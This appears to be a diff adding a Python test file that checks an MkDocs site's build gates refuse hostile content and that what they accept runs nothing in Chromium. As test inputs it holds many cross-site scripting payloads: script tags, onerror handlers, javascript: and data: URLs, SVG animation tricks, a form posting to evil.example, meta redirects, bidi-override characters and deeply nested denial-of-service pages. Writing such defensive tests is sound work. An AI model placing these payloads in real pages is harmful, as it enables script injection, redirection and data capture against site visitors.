@@ -1,0 +1,259 @@
+"""The hostile corpus in real builds (issue 17), and what the gates accept in Chromium.
+
+Three builds of a scratch copy of the project, each with many cases at once (every
+gate lists every problem it finds): the source gates (run before anything is rendered),
+the pathological pages (refused before Python-Markdown sees them), and the gate on the
+built output. Each case must be named with its file and line, with no traceback, and
+each build must end within the corpus' time bound. Then a copy whose pages hold
+script-looking text the gates accept is built and loaded in Chromium: nothing runs,
+nothing navigates away, nothing is fetched from another host.
+"""
+
+from __future__ import annotations
+
+import re
+import time
+from pathlib import Path
+
+from tests.browser import serve, watch
+from tests.hostile import TIME_BOUND
+from tests.sitebuild import Build, mkdocs_build
+
+
+def _append(path: Path, text: str) -> int:
+    """Append `text` to a file; the line number of its first line."""
+    old = path.read_text(encoding="utf-8")
+    if not old.endswith("\n"):
+        old += "\n"
+    path.write_text(old + text, encoding="utf-8")
+    return old.count("\n") + 1
+
+
+def _set_line(path: Path, prefix: str, new: str) -> int:
+    """Replace the first line starting with `prefix` by `new`; its line number."""
+    lines = path.read_text(encoding="utf-8").split("\n")
+    number = next(i for i, line in enumerate(lines) if line.startswith(prefix))
+    lines[number] = new
+    path.write_text("\n".join(lines), encoding="utf-8")
+    return number + 1
+
+
+def _timed_build(project: Path, out: Path) -> tuple[Build, float]:
+    start = time.perf_counter()
+    build = mkdocs_build(project, out)
+    return build, time.perf_counter() - start
+
+
+def _assert_refused(build: Build, expected: list[tuple[str, str]]) -> None:
+    assert build.returncode != 0, build.output[-3000:]
+    assert "Traceback" not in build.output, build.output[-5000:]
+    lines = [line.strip() for line in build.output.splitlines()]
+    missing = [
+        f"{where}: …{says}…"
+        for where, says in expected
+        if not any(line.startswith(f"{where}") and says in line for line in lines)
+    ]
+    assert not missing, "not refused:\n" + "\n".join(missing) + "\n\n" + build.output[-6000:]
+
+
+def test_the_build_refuses_every_source_case_naming_file_and_line(project_copy, tmp_path):
+    p = project_copy
+    expected = []
+    line = _set_line(
+        p / "docs/en/togo.md", "title:", 'title: "Togo\\x3cscript>alert(1)\\x3c/script>"'
+    )
+    expected.append((f"docs/en/togo.md:{line}:", "found '<' in front-matter 'title'"))
+    line = _set_line(
+        p / "docs/fr/togo.md",
+        "description:",
+        'description: "x\\x22>\\x3cscript>alert(2)\\x3c/script>"',
+    )
+    expected.append((f"docs/fr/togo.md:{line}:", "in front-matter 'description'"))
+    line = _set_line(
+        p / "docs/en/balto.md",
+        "title:",
+        "title: Balto\ntemplate: redirect.html\nlocation: javascript:alert(3)",
+    )
+    expected += [
+        (f"docs/en/balto.md:{line + 1}:", "found front-matter key 'template'"),
+        (f"docs/en/balto.md:{line + 2}:", "found front-matter key 'location'"),
+    ]
+    line = _set_line(
+        p / "docs/fr/balto.md",
+        "title:",
+        'title: Balto\nsubtitle: "\\x3cimg src=x onerror=alert(4)>"',
+    )
+    expected.append((f"docs/fr/balto.md:{line + 1}:", "found '<' in front-matter 'subtitle'"))
+    labels = p / "data/labels.yml"
+    en = _set_line(
+        labels, "  download.label: Download", "  download.label: Get<script>alert(5)</script>"
+    )
+    fr = _set_line(
+        labels,
+        "  download.label: Télécharger",
+        "  download.label: 'Lire\" autofocus onfocus=\"alert(6)'",
+    )
+    expected += [
+        (f"data/labels.yml:{en}:", "in label 'download.label' (en)"),
+        (f"data/labels.yml:{fr}:", "found '\"' in label 'download.label' (fr)"),
+    ]
+    config = p / "mkdocs.yml"
+    nav = _set_line(config, "  - Home: index.md", "  - Home<script>alert(7)</script>: index.md")
+    _set_line(
+        config,
+        "          Home: Accueil",
+        "          Home<script>alert(7)</script>: Accueil<img src=x onerror=alert(8)>",
+    )
+    expected += [
+        (f"mkdocs.yml:{nav}:", "in nav title 'Home<script>alert(7)</script>'"),
+        ("mkdocs.yml:", "in nav_translations (fr) 'Accueil<img src=x onerror=alert(8)>'"),
+    ]
+    (p / "docs/assets/x.svg").write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(9)</script></svg>\n',
+        encoding="utf-8",
+    )
+    (p / "docs/assets/anim.svg").write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg"><a href="#a"><animate attributeName="href" '
+        'values="javascript:alert(10)"/><text>x</text></a></svg>\n',
+        encoding="utf-8",
+    )
+    (p / "docs/notes.xhtml").write_text(
+        "<html xmlns='http://www.w3.org/1999/xhtml'/>", encoding="utf-8"
+    )
+    (p / "docs/en/pwn.html").write_text("<script>alert(11)</script>", encoding="utf-8")
+    expected += [
+        ("docs/assets/x.svg:1:", "found <script>, expected no script"),
+        ("docs/assets/anim.svg:1:", "found <animate attributeName='href'>"),
+        ("docs/notes.xhtml:", "found a .xhtml file"),
+        ("docs/en/pwn.html:", "found a .html file"),
+    ]
+    relay = p / "data/relay.yml"
+    line = _append(relay, "# \u202e a comment that reads backwards\n")
+    expected.append((f"data/relay.yml:{line}:", "U+202E RIGHT-TO-LEFT OVERRIDE"))
+    line = _append(p / "docs/en/memorials.md", "\nTogo's statue [@Wikipedia-togo].\n")
+    expected.append((f"docs/en/memorials.md:{line + 1}:", "found citation '[@Wikipedia-togo]'"))
+    line = _append(p / "docs/fr/memorials.md", "\nLa statue de Togo [@salisbury2003\u0430].\n")
+    expected.append((f"docs/fr/memorials.md:{line + 1}:", "non-ASCII 'а' (U+0430)"))
+    line = _append(p / "docs/en/myths.md", '\n<a href="jav&#x09;ascript:alert(12)">x</a>\n')
+    expected.append((f"docs/en/myths.md:{line + 1}:", "javascript: URL"))
+    line = _append(p / "docs/fr/myths.md", "\nVoir \u2067ceci\u2069.\n")
+    expected.append((f"docs/fr/myths.md:{line + 1}:", "U+2067"))
+
+    build, elapsed = _timed_build(p, tmp_path / "out")
+    _assert_refused(build, expected)
+    assert len(expected) >= 18
+    assert elapsed < TIME_BOUND, f"{elapsed:.1f} s"
+    assert not (tmp_path / "out").exists(), "a refused build published something"
+
+
+def test_the_build_refuses_pathological_pages_before_markdown_sees_them(project_copy, tmp_path):
+    p = project_copy
+    expected = []
+    line = _append(p / "docs/en/myths.md", "\n" + "[](" * 40_000 + "\n")
+    expected.append((f"docs/en/myths.md:{line + 1}:", "found a line of 120,000 characters"))
+    line = _append(
+        p / "docs/fr/myths.md", "\n" + "\n".join("    " * i + "- x" for i in range(2000)) + "\n"
+    )
+    expected.append((f"docs/fr/myths.md:{line + 9}:", "found lists or quotes nested 9 deep"))
+    line = _append(p / "docs/en/aftermath.md", "\n" + ">" * 2000 + " x\n")
+    expected.append((f"docs/en/aftermath.md:{line + 1}:", "nested 2000 deep"))
+    line = _append(p / "docs/fr/aftermath.md", "\n" + "<!--\n" * 12_000)
+    expected.append((f"docs/fr/aftermath.md:{line + 1}:", "found a paragraph of"))
+    build, elapsed = _timed_build(p, tmp_path / "out")
+    _assert_refused(build, expected)
+    assert elapsed < TIME_BOUND, f"{elapsed:.1f} s"
+    # One line per kind of problem and place: 2,000 nested lines are not 2,000 lines.
+    assert len(build.output.splitlines()) < 40, build.output[-3000:]
+
+
+def test_the_output_gate_refuses_what_only_the_built_site_shows(project_copy, tmp_path):
+    """Tricks the source checks let through, each named with its page and line."""
+    p = project_copy
+    en, fr = p / "docs/en/togo.md", p / "docs/fr/togo.md"
+    cases = {
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/en">': "refresh",
+        '<form action="https://evil.example/collect"><input name="q"></form>': "found <form>",
+        '<base href="https://evil.example/base/">': "no <base>",
+        '<link rel="stylesheet" href="https://evil.example/x.css">': "no link in a page",
+        "<style>@import url(https://evil.example/y.css);</style>": "<style> element",
+        '<img src="https://evil.example/t.png" alt="">': "from another host",
+        '<noscript><p title="</noscript><img src=x onerror=alert(21)>"></p></noscript>': "onerror=",
+        "<!--><img src=x onerror=alert(22)>-->": "onerror=",
+        "[a link](vbscript:msgbox(23))": "vbscript:",
+        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyNCk8L3NjcmlwdD4=">x</a>': "data: URL",
+        '<svg><a href="#a"><animate attributeName="href" values="#a;https://evil.example/25"/>'
+        "<text>x</text></a></svg>": "no animation of a link",
+        '<svg><![CDATA[x]]><set attributeName="href" to="https://evil.example/26"/></svg>': (
+            "no <set>"
+        ),
+    }
+    expected = []
+    for html, says in cases.items():
+        line = _append(en, f"\n{html}\n")
+        expected.append((f"docs/en/togo.md:{line + 1}", says))
+    line = _append(fr, '\n<meta http-equiv="refresh" content="0;url=https://evil.example/fr">\n')
+    expected.append((f"docs/fr/togo.md:{line + 1}", "refresh"))
+    line = _append(fr, "\n<math><mtext><table><mglyph><style><img src=x onerror=alert(27)>\n")
+    expected.append((f"docs/fr/togo.md:{line + 1}", "no <mglyph>"))
+    # A setting of mkdocs.yml a template prints as an address: named in mkdocs.yml.
+    bundle = _set_line(
+        p / "mkdocs.yml", "  bundle_url:", '  bundle_url: "javascript:alert(28)//://"'
+    )
+    expected.append((f"mkdocs.yml:{bundle}", "found href='javascript:alert(28)//://' on <a>"))
+    build, elapsed = _timed_build(p, tmp_path / "out")
+    _assert_refused(build, expected)
+    assert "The built site has what no page may bring" in build.output
+    assert elapsed < TIME_BOUND * 2, f"{elapsed:.1f} s"  # a whole build, then the gate
+    # Both languages' pages are named, each where it is.
+    assert re.search(r"docs/fr/togo\.md:\d+: found <meta http-equiv='refresh'>", build.output)
+
+
+ACCEPTED = """
+Code shows markup, it does not run it:
+
+```html
+<script>window.__pwned = 1</script>
+<img src=x onerror="window.__pwned = 2">
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+```
+
+Inline, too: `<svg onload="window.__pwned = 3">`, `javascript:window.__pwned = 4`.
+
+Escaped: &lt;script&gt;window.__pwned = 5&lt;/script&gt; and the words javascript:alert(1).
+
+A [link out](https://other.example/path) and [one home](index.md).
+"""
+
+
+def test_what_the_gates_accept_runs_nothing_and_goes_nowhere(project_copy, tmp_path, browser):
+    p = project_copy
+    for lang in ("en", "fr"):
+        _set_line(p / f"docs/{lang}/togo.md", "title:", "title: Togo & Balto's 'run'")
+        _append(p / f"docs/{lang}/togo.md", ACCEPTED)
+    build = mkdocs_build(p, tmp_path / "out")
+    assert build.returncode == 0, build.output[-3000:]
+    html = (tmp_path / "out/togo/index.html").read_text(encoding="utf-8")
+    assert "__pwned" in html and "<script>window" not in html  # shown as text
+    with serve(tmp_path / "out") as base:
+        for rel in ("togo/", "fr/togo/"):
+            _load_and_watch(browser, base + rel)
+
+
+def _load_and_watch(browser, url: str) -> None:
+    context = browser.new_context()
+    page = context.new_page()
+    traffic = watch(page)
+    dialogs: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    navigations: list[str] = []
+    page.on("framenavigated", lambda f: navigations.append(f.url))
+    page.goto(url)
+    page.wait_for_timeout(1500)
+    assert page.url == url
+    assert navigations == [url], navigations
+    assert page.evaluate("window.__pwned") is None
+    assert dialogs == []
+    assert traffic.foreign == [], traffic.foreign
+    assert page.locator("code", has_text="<script>window.__pwned = 1</script>").count() == 1
+    assert page.title().startswith("Togo & Balto's 'run'")
+    context.close()
